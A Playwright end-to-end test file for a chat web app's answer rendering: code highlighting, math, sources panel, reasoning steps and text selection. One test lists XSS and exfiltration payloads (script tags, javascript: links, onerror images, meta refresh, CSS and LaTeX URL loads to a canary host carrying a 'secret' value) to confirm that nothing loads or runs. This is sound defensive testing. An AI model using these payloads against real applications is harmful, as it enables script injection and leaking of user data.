"""What an answer shows: code, formulas, notes, what led to it, where it comes from."""

import re
from urllib.parse import quote

from playwright.sync_api import expect

from tests.e2e.accessibility import trouble_on
from tests.e2e.chat_page import ChatPage

RICH = """\
/repeat ## Rich

Inline $x^2$ and code[^1], for $5 and $10. See [the docs](https://docs.example.com/a) and ![a chart](https://cdn.example.com/c.png).

$$
\\frac{a}{b}
$$

```python
def greet(name: str) -> str:
    return f"Hello {name}"  # a comment
```

- [x] done
- [ ] open

[^1]: The note.
"""
WORK = "/reasoning I have to look it up.\n/step Search the archive\n/sources 3\n/repeat Here it is."


def test_code_is_coloured_and_formulas_are_drawn_once_they_are_whole(chat: ChatPage) -> None:
    chat.send(RICH)
    chat.wait_for_end()

    expect(chat.answer.locator(".hljs-keyword").first).to_have_text("def")
    expect(chat.answer.locator("math")).to_have_count(2)
    expect(chat.answer.locator("a.chat-image")).to_have_attribute("data-host", "cdn.example.com")
    expect(chat.answer).to_contain_text("for $5 and $10")
    assert chat.page.locator("img[src*='example.com']").count() == 0

    chat.page.reload()
    chat.wait_until_ready()
    expect(chat.answer.locator(".hljs-keyword").first).to_have_text("def")
    expect(chat.answer.locator("math")).to_have_count(2)
    assert trouble_on(chat.page) == []


def test_code_wraps_and_is_copied_as_it_is(chat: ChatPage) -> None:
    chat.send(RICH)
    chat.wait_for_end()
    body = chat.answer.locator(".chat-code__body")
    expect(body).to_have_css("white-space", "pre")

    chat.answer.get_by_role("button", name="Wrap lines").click()

    expect(body).to_have_css("white-space", "pre-wrap")
    expect(chat.answer.get_by_role("button", name="Wrap lines")).to_have_attribute("aria-pressed", "true")


def test_what_led_to_an_answer_is_shown_and_stays(chat: ChatPage) -> None:
    chat.send(WORK)
    chat.wait_for_end()

    for _ in range(2):
        steps = chat.answers.last.locator("details.chat-steps")
        steps.locator("summary").click()
        expect(steps).to_contain_text("I have to look it up.")
        expect(steps).to_contain_text("Search the archive")
        chat.answers.last.get_by_role("button", name=re.compile("Sample source 2")).click()
        panel = chat.page.locator(".chat-source-panel")
        expect(panel).to_contain_text("the passage that source 2 gave")
        expect(panel.locator(".chat-passage").nth(1)).to_be_focused()
        assert trouble_on(chat.page) == []
        chat.page.keyboard.press("Escape")
        expect(panel).to_have_count(0)
        chat.page.reload()
        chat.wait_until_ready()


def test_words_can_be_selected_and_copied_while_the_answer_grows(chat: ChatPage) -> None:
    chat.send("/slow 20\n/repeat First of all.\n\n" + "And **more** words. " * 40)
    expect(chat.answer).to_contain_text("more words. And more")
    chat.page.evaluate(
        """() => {
            const body = [...document.querySelectorAll('li[data-role=assistant] [data-part=body]')].at(-1);
            getSelection().selectAllChildren(body.querySelector('p'));
            getSelection().extend(body.querySelector('p:last-child strong'), 1);
        }"""
    )
    chosen = chat.page.evaluate("getSelection().toString()")
    chat.wait_for_end()

    assert "First of all." in chosen
    assert chat.page.evaluate("getSelection().toString()") == chosen


def test_hostile_answers_load_and_run_nothing(chat: ChatPage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.page.on("dialog", lambda dialog: asked.append("dialog"))
    canary = "https://canary.example/?d=secret"
    hostile = [
        f"![x]({canary})",
        f"<img src={canary} onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        f"$\\includegraphics{{{canary}}}$",
        "$\\href{javascript:alert(1)}{x}$",
        f"$\\htmlStyle{{background:url({canary})}}{{x}}$",
        "```html\n<script>alert(1)</script>\n```",
        f"```css\nbody {{ background: url({canary}) }}\n```",
        f"<meta http-equiv=refresh content='0;url={canary}'>",
    ]
    chat.send("/repeat " + "\n\n".join(hostile))
    chat.wait_for_end()
    chat.page.reload()
    chat.wait_until_ready()

    assert [url for url in asked if not url.startswith(chat.url)] == []
    assert chat.answer.locator("script, img, style, iframe, [onerror], a[href^=javascript]").count() == 0
    assert quote("secret") not in "".join(url for url in asked if not url.startswith(f"{chat.url}/chat/"))
